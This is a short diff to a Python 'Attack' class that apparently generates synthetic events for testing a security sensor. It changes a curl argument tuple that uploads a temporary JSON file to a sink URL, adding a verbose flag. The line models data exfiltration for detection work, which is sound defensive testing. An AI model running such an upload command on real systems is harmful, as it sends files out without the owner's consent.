@@ -46,7 +46,7 @@ class Attack:
         its pid too unless given (the sensor's exec event of curl has the real one)."""
         at = [start + (end - start) * k / 5 for k in range(1, 5)]
         seed = _hex("upload", _ms(start))
-        args = ("curl", "-sS", "--max-time", "10", "-T", f"/tmp/tmp{seed[:8]}.json", cast.SINK_URL)
+        args = ("curl", "-sS", "-v", "--max-time", "10", "-T", f"/tmp/tmp{seed[:8]}.json", cast.SINK_URL)
         return cls(*at, args, curl_pid or 30000 + int(seed[8:12], 16) % 30000)
 
 
